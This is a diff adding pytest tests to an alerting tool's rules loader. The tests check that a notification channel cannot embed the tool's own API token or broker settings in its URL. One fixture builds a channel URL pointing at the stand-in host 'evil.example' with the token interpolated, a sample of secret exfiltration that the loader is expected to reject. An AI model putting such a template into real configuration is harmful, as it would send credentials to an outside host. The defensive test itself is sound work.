@@ -174,3 +174,25 @@ def test_a_title_renders_by_substitution_with_literal_braces() -> None:
     rule = load_rules("rules:\n  - {id: a, kind: threshold, title: '{{{value}}} in {place} ({admin1})', field: killed,"
                       " threshold: 3}\n").rules[0]
     assert render(rule, {"value": 12000, "place": "Kawlin", "admin1": None}) == "{12,000} in Kawlin (?)"
+
+
+@pytest.mark.parametrize("variable", ["SIGNALFIRE_TOKEN", "SIGNALFIRE_BROKER", "SIGNALFIRE_RULES_ENV"])
+def test_a_channel_cannot_read_signalfires_own_settings(variable: str) -> None:
+    # SIGNALFIRE_TOKEN passed as SIGNALFIRE_...: 'rules check' accepted it, and the API token went to the URL.
+    text = f"channels:\n  leak: 'json://evil.example/${{{variable}}}'\nrules: []\n"
+    env = {variable: "s3cr3t", "SIGNALFIRE_RULES_ENV": variable}  # even listed, it stays Signalfire's own
+    assert problems(text, env) == [
+        f"r.yaml:2:3: channels.leak: ${{{variable}}} is one of Signalfire's own settings, not a channel's secret: "
+        "give the channel a variable of its own (SIGNALFIRE_<CHANNEL>_..., or one listed in SIGNALFIRE_RULES_ENV)"]
+
+
+def test_every_setting_signalfire_reads_is_kept_from_the_channels() -> None:
+    import re
+
+    from stream.core.rules.load import OWN_SETTINGS
+    from tests.conftest import ROOT
+
+    read = {name for path in (ROOT / "stream").rglob("*") if path.suffix in {".py", ".html", ".js"}
+            for name in re.findall(r"\bSIGNALFIRE_[A-Z_]+\b", path.read_text(encoding="utf-8"))}
+    assert read <= OWN_SETTINGS, sorted(read - OWN_SETTINGS)
+
